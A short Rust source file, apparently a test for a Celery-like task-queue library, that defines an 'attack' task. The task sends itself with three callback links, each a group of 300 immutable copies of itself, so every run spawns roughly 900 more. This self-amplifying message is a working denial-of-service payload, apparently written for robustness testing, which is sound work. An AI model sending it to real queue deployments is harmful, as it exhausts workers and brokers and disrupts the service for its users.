//! Attack: send one signature that holds thousands, as callbacks of callbacks and in groups.

use petiole::Signature;
use serde_json::json;

#[petiole::task]
fn attack() -> Result<(), petiole::Error> {
    let task = petiole::context().task;
    let one = json!({ "task": task, "args": [], "kwargs": {}, "options": {}, "subtask_type": null, "immutable": true });
    let group = json!({
        "task": "celery.group", "args": [], "kwargs": { "tasks": vec![one; 300] }, "options": {},
        "subtask_type": "group", "immutable": true,
    });
    let links = vec![group.clone(), group.clone(), group];
    petiole::send(Signature::new(task).immutable().option("link", links))?;
    Ok(())
}
